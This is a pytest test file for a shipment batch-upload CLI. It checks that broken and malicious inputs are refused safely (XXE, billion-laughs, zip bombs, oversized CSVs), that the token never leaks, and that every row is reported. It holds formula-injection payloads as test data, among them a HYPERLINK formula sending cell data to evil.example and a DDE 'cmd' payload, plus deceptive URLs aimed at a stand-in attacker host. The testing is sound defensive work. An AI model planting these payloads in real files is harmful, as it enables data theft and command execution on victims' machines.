"""Hostile and broken input: no traceback, no leak, nothing lost.

Every broken or malicious file is refused with exit 2 and one line naming the file and what to
do, within TIME_LIMIT_S, without a single request reaching the sandbox API. The large ones run
in a child process whose peak memory is measured. Cells that look like formulas stay text in
the workbook and reach the API exactly; the token appears nowhere; every input row is listed
exactly once. Tests marked xfail(strict=True) pin bugs that are still open.
"""

from __future__ import annotations

import itertools
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from batch_uploader import pipeline, reader, report
from batch_uploader.journal import Journal
from batch_uploader.sandbox import Sandbox, SandboxOptions
from tests.conftest import REPO, read_workbook, sandbox_env, write_csv
from tests.fixtures.hostile import make_hostile

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
TIME_LIMIT_S = 10.0
"""A refusal (or a run of a tiny file) must finish within this many seconds."""
MEMORY_LIMIT_MB = 500
"""Peak resident memory of a child process reading one hostile file."""
CHILD_ADDRESS_SPACE = 3 * 1024**3
"""Address-space cap of every child process, so a regression cannot take the machine down."""
CHECKED_IN_MAX_BYTES = 100 * 1024
HEADER = make_hostile.HEADER
TOKEN = "hostile-7c1e5a9b-d04f-token"
"""The account token of the `secret_sandbox`: distinctive, so a search for it cannot miss."""


# --- helpers ------------------------------------------------------------------------------


def assert_refused(run: Any, *fragments: str) -> str:
    """Exit 2, one line on stderr naming the problem, nothing on stdout, no workbook."""
    assert run.code == 2, (run.code, run.stdout, run.stderr)
    message = run.stderr.strip()
    assert "Traceback" not in run.stderr
    assert not run.stdout.strip()
    assert len(message.splitlines()) == 1, message
    assert message.startswith("batch-uploader: error: ")
    for fragment in fragments:
        assert fragment in message
    assert not list(run.report_dir.glob("*-results.xlsx"))
    return message


def timed(call: Any, *args: Any, **kwargs: Any) -> tuple[Any, float]:
    started = time.perf_counter()
    result = call(*args, **kwargs)
    return result, time.perf_counter() - started


@dataclass(frozen=True)
class Child:
    """A finished `python -m batch_uploader` process: what it said, how long, how much memory."""

    code: int
    stdout: str
    stderr: str
    seconds: float
    peak_rss_mb: float


# `python -m batch_uploader ARGS`, after capping the process's address space (no preexec_fn:
# the sandbox's threads run in this process).
# The child records its own peak RSS (VmHWM, which exec resets) when it exits: wait4()'s
# ru_maxrss also counts the forked copy of the test process before exec, which is as large
# as the whole pytest session has grown.
_CAPPED_MAIN = (
    "import atexit, os, resource, runpy, sys\n"
    "def _peak():\n"
    "    with open('/proc/self/status') as status:\n"
    "        kib = next(l.split()[1] for l in status if l.startswith('VmHWM:'))\n"
    "    with open(os.environ['HOSTILE_PEAK_FILE'], 'w') as out:\n"
    "        out.write(kib)\n"
    "atexit.register(_peak)\n"
    "resource.setrlimit(resource.RLIMIT_AS, ({cap}, {cap}))\n"
    "sys.argv[0] = 'batch-uploader'\n"
    "runpy.run_module('batch_uploader', run_name='__main__', alter_sys=True)"
)


def run_child(*args: str, env: dict[str, str], cwd: Path, timeout_s: float = 60.0) -> Child:
    """Run the CLI in a child process and read its own peak RSS (VmHWM, written at exit).

    RUSAGE_CHILDREN would report the largest child of the whole test session, and wait4()'s
    figure includes the forked copy of this (large) test process before exec. The child's
    address space is capped at CHILD_ADDRESS_SPACE, so a runaway
    allocation fails in the child instead of exhausting the machine.
    """
    peak_file = cwd / f".peak-{time.monotonic_ns()}"
    environment = {k: v for k, v in os.environ.items() if not k.startswith("FLXPOINT_")} | env
    environment["HOSTILE_PEAK_FILE"] = str(peak_file)
    main = _CAPPED_MAIN.format(cap=CHILD_ADDRESS_SPACE)
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.monotonic()
        process = subprocess.Popen(
            [sys.executable, "-c", main, *args], stdout=out, stderr=err, cwd=cwd, env=environment
        )
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - started > timeout_s:
                process.send_signal(signal.SIGKILL)
                _, status, usage = os.wait4(process.pid, 0)
                break
            time.sleep(0.02)
        seconds = time.monotonic() - started
        process.returncode = os.waitstatus_to_exitcode(status)  # reaped: Popen must not wait
        out.seek(0)
        err.seek(0)
        # The child's own VmHWM; if it was killed before writing it, wait4's figure (an upper
        # bound that includes the pre-exec copy of this process).
        peak_kib = int(peak_file.read_text()) if peak_file.exists() else usage.ru_maxrss
        peak_file.unlink(missing_ok=True)
        return Child(
            process.returncode,
            out.read().decode(errors="replace"),
            err.read().decode(errors="replace"),
            seconds,
            peak_kib / 1024,
        )


def upload_child(path: Path, server: Sandbox, tmp_path: Path, *extra: str) -> Child:
    """`upload PATH` in a child process, against the sandbox (no --dry-run unless in extra)."""
    return run_child(
        "upload",
        str(path),
        "--journal",
        str(tmp_path / "child-journal.sqlite3"),
        "--report-dir",
        str(tmp_path / "child-reports"),
        *extra,
        env=sandbox_env(server),
        cwd=tmp_path,
    )


def assert_child_refused(child: Child, *fragments: str) -> None:
    """Exit 2 with one clear line, fast, in bounded memory."""
    assert child.code == 2, (child.code, child.stderr[-2000:])
    message = child.stderr.strip()
    assert "Traceback" not in message
    assert "panicked" not in message
    assert len(message.splitlines()) == 1, message[-2000:]
    assert message.startswith("batch-uploader: error: ")
    for fragment in fragments:
        assert fragment in message
    assert child.seconds < TIME_LIMIT_S
    assert child.peak_rss_mb < MEMORY_LIMIT_MB


def cell_values(path: Path, sheet: str) -> list[list[Any]]:
    """A sheet's values as Excel shows them (calamine decodes `_x000D_` escapes; openpyxl not)."""
    with CalamineWorkbook.from_path(str(path)) as book:
        return book.get_sheet_by_name(sheet).to_python(skip_empty_area=False)


def sheet_dicts(path: Path, sheet: str) -> list[dict[str, Any]]:
    header, *rows = cell_values(path, sheet)
    return [dict(zip(header, row, strict=True)) for row in rows]


def assert_no_formulas(path: Path) -> None:
    """No cell of any sheet is a formula: openpyxl's cell types and the raw sheet XML agree."""
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml
                assert b"<f " not in xml
                assert b't="str"' not in xml  # a formula's cached string result


def only_workbook(directory: Path) -> Path:
    (path,) = directory.glob("*-results.xlsx")
    return path


@pytest.fixture
def server() -> Iterator[Sandbox]:
    """A sandbox that accepts any PO and item of a known source (101-103)."""
    with Sandbox(SandboxOptions(auto_create_pos=True)) as sandbox:
        yield sandbox


@pytest.fixture
def secret_sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    """The bundled seed with the distinctive account token TOKEN (kept out of tmp_path)."""
    seed = json.loads((REPO / "templates" / "sandbox-seed.json").read_text(encoding="utf-8"))
    seed["accountToken"] = TOKEN
    path = tmp_path_factory.mktemp("seed") / "secret-seed.json"
    path.write_text(json.dumps(seed), encoding="utf-8")
    with Sandbox(SandboxOptions(seed_path=path)) as sandbox:
        yield sandbox


# --- the checked-in files ------------------------------------------------------------------


def test_checked_in_hostile_files_are_all_there_and_small() -> None:
    """Every file make_hostile.py writes is checked in, and none is 100 KB or more."""
    for name in make_hostile.small_files():
        assert (HOSTILE / name).is_file(), f"{name}: run tests/fixtures/hostile/make_hostile.py"
    for path in HOSTILE.iterdir():
        assert path.stat().st_size < CHECKED_IN_MAX_BYTES, path.name


# --- 1. broken files -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "args", "fragments"),
    [
        ("empty.csv", [], ["empty.csv: the file is empty"]),
        ("header-only.csv", [], ["header-only.csv: ", "has a header (row 1) but no rows below it"]),
        ("blank-lines.csv", [], ["blank-lines.csv: ", "no rows (only blank lines)"]),
        (
            "missing-column.csv",
            [],
            [
                "required column missing: Tracking Number.",
                "--map tracking_number=HEADER",
            ],
        ),
        (
            "missing-column.xlsx",
            [],
            [
                "missing-column.xlsx [Shipments]: ",
                "required column missing: Tracking Number.",
                "--map tracking_number=HEADER",
            ],
        ),
        ("random-bytes.xlsx", [], ["random-bytes.xlsx: not a valid .xlsx workbook"]),
        ("png.xlsx", [], ["png.xlsx: not a valid .xlsx workbook"]),
        ("truncated.xlsx", [], ["truncated.xlsx: not a valid .xlsx workbook"]),
        ("damaged.xlsx", [], ["damaged.xlsx: cannot be read as an Excel workbook"]),
        ("random-bytes.csv", [], ["random-bytes.csv: not a CSV or Excel file (it contains binary"]),
        ("opendocument.xlsx", [], ["opendocument.xlsx: an OpenDocument spreadsheet (.ods)"]),
        ("encrypted.xlsx", [], ["encrypted.xlsx: the workbook is password-protected"]),
        ("old.xls", [], ["old.xls: old .xls", "save as .xlsx or CSV"]),
        ("html-export.xls", [], ["html-export.xls: old .xls", "save as .xlsx or CSV"]),
        (
            "two-sheets.xlsx",
            ["--sheet", "Orders"],
            ["two-sheets.xlsx: no sheet named 'Orders' (sheets: 'Notes', 'Shipments')", "--sheet"],
        ),
    ],
)
def test_broken_file_is_refused_before_anything_is_sent(
    sandbox: Sandbox, cli_run, name: str, args: list[str], fragments: list[str]
) -> None:
    """Exit 2, one line naming the file and the fix, fast, and not one request sent."""
    run, seconds = timed(cli_run, "upload", str(HOSTILE / name), *args, env=sandbox_env(sandbox))
    assert_refused(run, *fragments)
    assert seconds < TIME_LIMIT_S
    assert sandbox.stats().requests == 0


def test_sheet_that_exists_is_read(cli_run) -> None:
    """The same workbook with an existing sheet name is read (the refusal above is the name)."""
    run = cli_run("upload", str(HOSTILE / "two-sheets.xlsx"), "--sheet", "Shipments", "--dry-run")
    assert run.code == 0, run.stderr


def test_missing_file_is_named(sandbox: Sandbox, cli_run, tmp_path: Path) -> None:
    """A path that does not exist: exit 2, the name and where it was looked for."""
    missing = tmp_path / "nope" / "shipments.csv"
    run = cli_run("upload", str(missing), env=sandbox_env(sandbox))
    assert_refused(run, "shipments.csv: file not found (", str(missing))
    assert sandbox.stats().requests == 0


def test_unreadable_file_is_refused(sandbox: Sandbox, cli_run, tmp_path: Path) -> None:
    """chmod 000: exit 2 with a permissions message (root reads anything, so skipped there)."""
    if os.geteuid() == 0:
        pytest.skip("running as root: chmod 000 does not stop root from reading")
    path = write_csv(tmp_path / "locked.csv", [["TEST-1", "101", "", "1ZLOCKED0001"]])
    path.chmod(0)
    try:
        run = cli_run("upload", str(path), env=sandbox_env(sandbox))
    finally:
        path.chmod(0o600)
    assert_refused(run, "locked.csv: cannot be read (permission denied)")
    assert sandbox.stats().requests == 0


@pytest.mark.parametrize("kind", ["folder", "fifo", "device", "dangling-link"])
def test_path_that_is_not_a_regular_file_never_hangs(
    sandbox: Sandbox, cli_run, tmp_path: Path, kind: str
) -> None:
    """A folder, a named pipe nobody writes to, /dev/zero, a dangling link: refused at once."""
    path = tmp_path / "shipments.csv"
    if kind == "folder":
        path.mkdir()
        expected = "is a folder, not a file"
    elif kind == "fifo":
        os.mkfifo(path)
        expected = "is not a regular file"
    elif kind == "device":
        path.symlink_to("/dev/zero")
        expected = "is not a regular file"
    else:
        path.symlink_to(tmp_path / "gone.csv")
        expected = "file not found"
    run, seconds = timed(cli_run, "upload", str(path), env=sandbox_env(sandbox))
    assert_refused(run, f"shipments.csv: {expected}")
    assert seconds < TIME_LIMIT_S
    assert sandbox.stats().requests == 0


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("header-line-break.csv", None),
        ("bad\nname.csv", b"PO Number,Source ID,Tracking Number,SKU,Quantity\n"),
    ],
    ids=["header-cell-with-line-break", "file-name-with-line-break"],
)
def test_error_is_one_line_even_when_a_name_holds_a_line_break(
    sandbox: Sandbox, cli_run, tmp_path: Path, name: str, content: bytes | None
) -> None:
    """A header cell typed with Alt+Enter, or a file name with a newline, still gives one line."""
    if content is None:
        path = HOSTILE / name
    else:
        path = tmp_path / name
        path.write_bytes(content)
    run = cli_run("upload", str(path), env=sandbox_env(sandbox))
    assert_refused(run)
    assert sandbox.stats().requests == 0


# --- 2. malicious files ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fragments"),
    [
        (
            "billion-laughs.xlsx",
            ["refused as unsafe", "xl/sharedStrings.xml declares XML entities"],
        ),
        ("xxe.xlsx", ["refused as unsafe", "xl/worksheets/sheet1.xml declares XML entities"]),
        # Parts the entity scan does not look at still never expand: calamine rejects the
        # undeclared entity. These pin that nothing leaks if the scan is ever bypassed.
        ("xxe-renamed-part.xlsx", ["cannot be read as an Excel workbook"]),
        ("entities-utf16be.xlsx", ["cannot be read as an Excel workbook"]),
    ],
)
def test_xml_entity_tricks_are_refused_and_never_expanded(
    sandbox: Sandbox, cli_run, name: str, fragments: list[str]
) -> None:
    """Billion laughs and XXE (/etc/passwd): refused in a blink; no expansion reaches any output."""
    run, seconds = timed(cli_run, "upload", str(HOSTILE / name), env=sandbox_env(sandbox))
    message = assert_refused(run, f"{name}: ", *fragments)
    assert seconds < TIME_LIMIT_S
    assert sandbox.stats().requests == 0
    assert "root:" not in message
    assert "lollol" not in message


@pytest.mark.parametrize(
    ("make", "fragments"),
    [
        (make_hostile.write_long_line, ["line 2 is longer than 1 MiB"]),
        (make_hostile.write_wide_csv, ["line 2 is longer than 1 MiB"]),
        # Half a million one-character columns fit in the line limit; the column limit stops it.
        (
            lambda path: make_hostile.write_wide_csv(path, columns=500_000, cell=b"x"),
            ["row 2 has 500,000 columns, more than the 1,000 allowed"],
        ),
        (make_hostile.write_sparse_zeros, ["not a CSV or Excel file (it contains binary data)"]),
    ],
    ids=["100MB-line", "1M-columns", "500k-columns", "10GB-of-zeros"],
)
def test_huge_text_file_is_refused_in_bounded_memory_and_time(
    sandbox: Sandbox, tmp_path: Path, make: Any, fragments: list[str]
) -> None:
    """Refused after reading about a MiB: < 10 s, < 500 MB peak, zero requests."""
    path = make(tmp_path / "huge.csv")
    child = upload_child(path, sandbox, tmp_path)
    assert_child_refused(child, "huge.csv: ", *fragments)
    assert sandbox.stats().requests == 0


def test_million_empty_trailing_columns_are_dropped_in_bounded_memory(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """A header followed by a million empty cells reads as the real columns, cheaply."""
    path = tmp_path / "trailing.csv"
    path.write_bytes(
        ",".join(HEADER).encode() + b"," * 1_000_000 + b"\nTEST-1,101,1ZTRAILING001,SKU-1,1,ok\n"
    )
    child = upload_child(path, sandbox, tmp_path, "--dry-run")
    assert child.code == 0, child.stderr
    assert child.seconds < TIME_LIMIT_S
    assert child.peak_rss_mb < MEMORY_LIMIT_MB
    book = only_workbook(tmp_path / "child-reports")
    assert cell_values(book, "Results")[0][: len(HEADER) + 1] == [*HEADER, "Input Row"]


@pytest.mark.parametrize(
    ("make", "fragments"),
    [
        (make_hostile.write_zip_bomb, ["would unpack to more than 512 MiB", "zip bomb"]),
        (make_hostile.write_overlapping_bomb, ["would unpack to more than 512 MiB", "zip bomb"]),
        (make_hostile.write_many_parts, ["has 10,011 parts", "zip bomb"]),
        (
            make_hostile.write_lying_sizes,
            ["not a valid .xlsx workbook", "Bad CRC-32"],  # our scan stops at the lie
        ),
        (make_hostile.write_sparse_zeros, ["not a valid .xlsx workbook"]),
    ],
    ids=["1GiB-sheet", "overlapping-entries", "10k-parts", "lying-sizes", "10GB-of-zeros"],
)
def test_zip_bomb_is_refused_before_inflating(
    sandbox: Sandbox, tmp_path: Path, make: Any, fragments: list[str]
) -> None:
    """Zip bombs of every shape are refused before anything inflates: fast and small."""
    path = make(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 2 * 1024 * 1024 or path.stat().st_blocks * 512 < 1024 * 1024
    child = upload_child(path, sandbox, tmp_path)
    assert_child_refused(child, "bomb.xlsx: ", *fragments)
    assert sandbox.stats().requests == 0


@pytest.mark.parametrize("name", ["stray-cell-ALL1048576.xlsx", "stray-cell-Z1048576.xlsx"])
def test_stray_cell_far_away_is_refused_in_bounded_memory(
    sandbox: Sandbox, tmp_path: Path, name: str
) -> None:
    """Two rows of data plus one cell a million rows down: exit 2 (or a normal run), bounded."""
    child = upload_child(HOSTILE / name, sandbox, tmp_path, "--dry-run")
    assert child.code in (0, 1, 2), child.stderr[-2000:]
    assert "panicked" not in child.stderr
    assert "memory allocation" not in child.stderr
    assert child.seconds < TIME_LIMIT_S
    assert child.peak_rss_mb < MEMORY_LIMIT_MB


# --- 3. formula injection ----------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\r\n=2+2",
]


def _injection_rows() -> list[list[str]]:
    """One row per payload: it starts the PO, tracking number and SKU, and is the whole note."""
    return [
        [f"{p}PO{i}", "101", f"{p}TRK{i}", f"{p}SKU{i}", "1", p] for i, p in enumerate(PAYLOADS)
    ]


def _assert_sent_exactly(server: Sandbox) -> None:
    """Each payload reached the API as written (surrounding whitespace is stripped by design)."""
    shipments = {s["trackingNumber"]: s for s in server.shipments()}
    assert len(shipments) == len(PAYLOADS)
    for i, payload in enumerate(PAYLOADS):
        shipment = shipments[f"{payload}TRK{i}".strip()]
        assert shipment["note"] == payload.strip()
        assert [item["sku"] for item in shipment["shipmentItems"]] == [f"{payload}SKU{i}".strip()]


def _assert_listed_exactly(book: Path, sheet: str, rows: list[list[str]]) -> None:
    """The workbook shows every original cell exactly, leading tab / CR / LF included."""
    listed = [row[: len(HEADER)] for row in cell_values(book, sheet)[1:]]
    assert listed == rows


def test_formula_cells_stay_text_and_reach_the_api_exactly(
    server: Sandbox, cli_run, tmp_path: Path
) -> None:
    """`=` `+` `-` `@` tab CR LF: text in every sheet, sent as written, logged one per line."""
    rows = _injection_rows()
    source = write_csv(tmp_path / "injection.csv", rows, HEADER)
    run = cli_run("upload", str(source), env=sandbox_env(server))
    assert run.code == 0, run.stderr
    _assert_sent_exactly(server)
    book = only_workbook(run.report_dir)
    assert_no_formulas(book)
    _assert_listed_exactly(book, "Results", rows)
    (log,) = run.report_dir.glob("*.log")
    with log.open(encoding="utf-8") as handle:  # universal newlines: \r, \n and \r\n split
        lines = [line.rstrip("\n").split("\t") for line in handle]
    assert all(len(fields) == 6 for fields in lines), lines  # time PO tracking status try ms
    statuses = [fields[3] for fields in lines]
    assert statuses.count("201") == len(PAYLOADS)
    assert set(statuses) <= {"201", "429"}  # a 429 waited out is a request (a line) of its own
    assert not any(f.startswith(("=", "+", "-", "@")) for fields in lines for f in fields)


def test_retry_reads_formula_cells_back_exactly(server: Sandbox, cli_run, tmp_path: Path) -> None:
    """Dry run, then `retry` its Failed sheet: the API gets the same values, still no formula."""
    rows = _injection_rows()
    source = write_csv(tmp_path / "injection.csv", rows, HEADER)
    dry = cli_run("upload", str(source), "--dry-run", report_dir=tmp_path / "dry")
    assert dry.code == 0, dry.stderr
    first = only_workbook(tmp_path / "dry")
    assert_no_formulas(first)
    _assert_listed_exactly(first, "Failed", rows)  # `not sent` rows are listed for retry
    retried = cli_run("retry", str(first), env=sandbox_env(server), report_dir=tmp_path / "retry")
    assert retried.code == 0, retried.stderr
    _assert_sent_exactly(server)
    second = only_workbook(tmp_path / "retry")
    assert_no_formulas(second)
    _assert_listed_exactly(second, "Results", rows)


def test_log_is_one_line_per_request_for_every_line_separator(
    server: Sandbox, cli_run, tmp_path: Path
) -> None:
    """\\x0b \\x0c NEL U+2028 U+2029 in a tracking number do not split a log line either."""
    tracking = "1ZSEP\x0bA\x0cB\x85C\u2028D\u2029E"
    source = write_csv(
        tmp_path / "sep.csv", [["TEST-1", "101", tracking, "SKU-1", "1", ""]], HEADER
    )
    run = cli_run("upload", str(source), env=sandbox_env(server))
    assert run.code == 0, run.stderr
    assert [s["trackingNumber"] for s in server.shipments()] == [tracking]  # sent as written
    (log,) = run.report_dir.glob("*.log")
    (line,) = log.read_text(encoding="utf-8").splitlines()  # splits on all of them
    assert line.split("\t")[3] == "201"


def test_uncalculated_formula_is_never_sent_as_its_cached_zero(server: Sandbox, cli_run) -> None:
    """A tracking number computed by a formula Excel never calculated: refused, never sent as 0."""
    run = cli_run("upload", str(HOSTILE / "uncalculated-formula.xlsx"), env=sandbox_env(server))
    assert [s["trackingNumber"] for s in server.shipments()] == []
    assert run.code in (1, 2)


# --- 4. the token ------------------------------------------------------------------------------


def where_is(secret: str, texts: dict[str, str], *places: Path) -> list[str]:
    """Every place the secret occurs: the texts, any file's bytes, each xlsx part and cell.

    ``places`` are files or folders (searched recursively): the journal with its -wal/-shm
    files, the workbooks and the per-run logs.
    """
    found = [name for name, text in texts.items() if secret in text]
    files = [p for place in places for p in ([place] if place.is_file() else place.rglob("*"))]
    for path in sorted(files):
        if path.is_file():
            found += _secret_in_file(secret, path)
    return found


def _secret_in_file(secret: str, path: Path) -> list[str]:
    needle = secret.encode()
    found = [str(path)] if needle in path.read_bytes() else []
    if path.suffix == ".xlsx" and zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:  # the parts are compressed: search them inflated
            found += [f"{path}!{n}" for n in archive.namelist() if needle in archive.read(n)]
        with CalamineWorkbook.from_path(str(path)) as book:
            for sheet in book.sheet_names:
                rows = book.get_sheet_by_name(sheet).to_python()
                if any(secret in str(value) for row in rows for value in row):
                    found.append(f"{path} [{sheet}]")
    return found


def _token_rows() -> list[list[str]]:
    return [
        ["TEST-1", "101", "1ZTOKEN000001", "SKU-1", "1", "created"],
        ["TEST-1", "101", "1ZTOKEN000002", "SKU-1", "lots", "invalid"],
        ["TEST-2", "101", "1ZTOKEN000003", "NOT-ON-PO", "1", "refused by the API"],
    ]


@pytest.mark.parametrize("via", ["env", "option"])
def test_token_appears_nowhere_even_with_debug_logging(
    secret_sandbox: Sandbox,
    cli_run,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    via: str,
) -> None:
    """upload --verbose, retry and report with httpx/httpcore DEBUG logs on: no token anywhere."""
    caplog.set_level(logging.DEBUG)  # root at DEBUG: what logging.basicConfig(level=DEBUG) does
    source = write_csv(tmp_path / "token.csv", _token_rows(), HEADER)
    env = {"FLXPOINT_BASE_URL": secret_sandbox.url}
    token_args: list[str] = []
    if via == "env":
        env["FLXPOINT_API_TOKEN"] = TOKEN
    else:
        token_args = ["--token", TOKEN]
    upload = cli_run("upload", str(source), "--verbose", *token_args, env=env)
    assert upload.code == 1, upload.stderr
    book = only_workbook(upload.report_dir)
    run_id = dict(cell_values(book, "Summary"))["Run"]
    retry = cli_run("retry", str(book), "--verbose", "--json", *token_args, env=env,
                    report_dir=tmp_path / "retry")  # fmt: skip
    assert retry.code == 1, retry.stderr
    rebuilt = cli_run(
        "report", run_id, "--journal", str(tmp_path / "journal.sqlite3"),
        "--report-dir", str(tmp_path / "rebuilt"),
    )  # fmt: skip
    assert rebuilt.code == 0, rebuilt.stderr
    assert secret_sandbox.stats().status_counts.get(201) == 1
    assert "send_request_headers" in caplog.text  # the debug logs really were on
    texts = {
        f"{name} {stream}": getattr(run, stream)
        for name, run in (("upload", upload), ("retry", retry), ("report", rebuilt))
        for stream in ("stdout", "stderr")
    }
    texts["logging"] = caplog.text
    texts["log records"] = "\n".join(repr(r.__dict__) for r in caplog.records)
    searched = sorted(p.name for p in tmp_path.rglob("*"))
    assert "journal.sqlite3" in searched
    assert any(name.endswith(".log") for name in searched)
    assert where_is(TOKEN, texts, tmp_path) == []  # journal (+ -wal/-shm), logs, workbooks


def test_refused_token_appears_nowhere(
    secret_sandbox: Sandbox, cli_run, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A token the API refuses (401): exit 3 and that token is not in any output either."""
    caplog.set_level(logging.DEBUG)
    wrong = "hostile-wrong-3e8d1c55-token"
    source = write_csv(tmp_path / "token.csv", _token_rows(), HEADER)
    env = {"FLXPOINT_BASE_URL": secret_sandbox.url, "FLXPOINT_API_TOKEN": wrong}
    run = cli_run("upload", str(source), "--verbose", env=env)
    assert run.code == 3
    assert "401" in run.stderr
    texts = {"stdout": run.stdout, "stderr": run.stderr, "logging": caplog.text}
    assert where_is(wrong, texts, tmp_path) == []


@pytest.mark.parametrize(
    "base_url",
    [
        "http://api.flxpoint.com",
        "HTTP://API.FLXPOINT.COM",
        " http://api.flxpoint.com",
        "http://127.0.0.1.nip.io:8765",
        "http://localhost.evil.example",
        "http://127.0.0.1@evil.example",
        "http://localhost:8765@evil.example/",
        "http://evil.example#@127.0.0.1",
        "http://evil.example\t.127.0.0.1",
        "http://0.0.0.0:8765",
        "http://2130706433",
        "http://[::ffff:10.0.0.1]",
    ],
)
def test_plain_http_to_another_machine_is_refused(cli_run, tmp_path: Path, base_url: str) -> None:
    """Tricky http:// URLs that are not this machine: exit 2 before reading, token not echoed."""
    source = write_csv(tmp_path / "url.csv", _token_rows(), HEADER)
    env = {"FLXPOINT_API_TOKEN": TOKEN, "FLXPOINT_BASE_URL": base_url}
    run = cli_run("upload", str(source), env=env)
    assert_refused(run, "--base-url", "plain http:// is only allowed for this machine")
    assert TOKEN not in run.stdout + run.stderr


def test_token_with_non_ascii_character_is_refused_without_printing_it(
    secret_sandbox: Sandbox, tmp_path: Path
) -> None:
    """A token pasted with a no-break space: exit 2 naming the variable, never the token."""
    source = write_csv(tmp_path / "token.csv", _token_rows(), HEADER)
    bad = TOKEN + "\u00a0"
    child = run_child(
        "upload", str(source), "--journal", str(tmp_path / "j.sqlite3"),
        "--report-dir", str(tmp_path / "reports"),
        env={"FLXPOINT_API_TOKEN": bad, "FLXPOINT_BASE_URL": secret_sandbox.url}, cwd=tmp_path,
    )  # fmt: skip
    assert TOKEN not in child.stdout + child.stderr
    assert child.code == 2
    assert "FLXPOINT_API_TOKEN" in child.stderr
    assert secret_sandbox.stats().requests == 0


def test_token_with_line_break_is_refused_without_logging_it(
    secret_sandbox: Sandbox, cli_run, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A token read from a file with its trailing newline: refused up front, in no log."""
    caplog.set_level(logging.DEBUG)
    source = write_csv(tmp_path / "token.csv", _token_rows()[:1], HEADER)
    env = {"FLXPOINT_BASE_URL": secret_sandbox.url, "FLXPOINT_API_TOKEN": TOKEN + "\n"}
    run = cli_run("upload", str(source), "--verbose", "--max-attempts", "1", env=env)
    assert where_is(TOKEN, {"out": run.stdout + run.stderr, "log": caplog.text}, tmp_path) == []
    assert run.code == 2
    assert secret_sandbox.stats().requests == 0


# --- 5. nothing lost ---------------------------------------------------------------------------


def _mixed_inputs(tmp_path: Path) -> tuple[Path, Path, dict[tuple[str, int], str]]:
    """A CSV and an XLSX mixing every fate a row can have; the expected status per row."""
    csv_rows = [
        ["TEST-1", "101", "1ZLOST000001", "SKU-1", "1", ""],  # 2 created (2 items)
        ["TEST-1", "101", "1ZLOST000001", "SKU-2", "2", ""],  # 3 created
        ["", "", "", "", "", ""],  # 4 blank: not a row
        ["TEST-2", "101", "1ZLOST000002", "SKU-1", "two", ""],  # 5 invalid
        ["TEST-3", "102", "1ZLOST000003", "SKU-1", "1", "gift"],  # 6 disagree
        ["TEST-3", "102", "1ZLOST000003", "SKU-2", "1", "not a gift"],  # 7 disagree
        ["TEST-4", "102", "1ZLOST000004", "NOT-ON-PO", "1", ""],  # 8 failed (400)
        ["NO-SUCH-PO", "101", "1ZLOST000005", "SKU-1", "1", ""],  # 9 failed (404)
        ["TEST-5", "103", "1ZLOST000006", "SKU-1", "1", "=1+1"],  # 10 created
        ["", "", "1ZLOST000007", "SKU-1", "1", ""],  # 11 invalid: no PO
    ]
    csv_path = write_csv(tmp_path / "mixed.csv", csv_rows, HEADER)
    xlsx_path = tmp_path / "more.xlsx"
    xlsx_path.write_bytes(
        make_hostile.workbook_bytes(
            {
                "Shipments": [
                    HEADER,
                    ["TEST-6", "103", "1ZLOST000008", "SKU-3", "1", ""],  # 2 created
                    ["TEST-6", "103", "1ZLOST000009", "SKU-3", "-1", ""],  # 3 invalid
                ]
            }
        )
    )
    expected = {
        ("mixed.csv", 2): "created",
        ("mixed.csv", 3): "created",
        ("mixed.csv", 5): "invalid",
        ("mixed.csv", 6): "invalid",
        ("mixed.csv", 7): "invalid",
        ("mixed.csv", 8): "failed",
        ("mixed.csv", 9): "failed",
        ("mixed.csv", 10): "created",
        ("mixed.csv", 11): "invalid",
        ("more.xlsx [Shipments]", 2): "created",
        ("more.xlsx [Shipments]", 3): "invalid",
    }
    return csv_path, xlsx_path, expected


def _listed(book: Path, sheet: str) -> Counter[tuple[str, int]]:
    return Counter((r["Input File"], int(r["Input Row"])) for r in sheet_dicts(book, sheet))


def test_every_row_is_listed_exactly_once_whatever_its_fate(
    sandbox: Sandbox, cli_run, tmp_path: Path
) -> None:
    """Valid, invalid, disagreeing, API-refused rows of two files: each listed once, every run."""
    csv_path, xlsx_path, expected = _mixed_inputs(tmp_path)
    for attempt in ("first", "again"):
        run = cli_run("upload", str(csv_path), str(xlsx_path), env=sandbox_env(sandbox),
                      report_dir=tmp_path / attempt)  # fmt: skip
        assert run.code == 1, run.stderr
        book = only_workbook(tmp_path / attempt)
        assert _listed(book, "Results") == Counter(expected.keys())
        results = {(r["Input File"], int(r["Input Row"])): r for r in sheet_dicts(book, "Results")}
        statuses = {key: row["Status"] for key, row in results.items()}
        if attempt == "first":
            assert statuses == expected
        else:  # the created ones are skipped now, nothing else changes
            assert statuses == {k: "skipped" if v == "created" else v for k, v in expected.items()}
        failed = {k for k, v in expected.items() if v not in ("created", "skipped")}
        assert _listed(book, "Failed") == Counter(failed)
        summary = dict(cell_values(book, "Summary"))
        assert summary["Rows"] == len(expected)
        ids = {k: r["Shipment ID"] for k, r in results.items() if expected[k] == "created"}
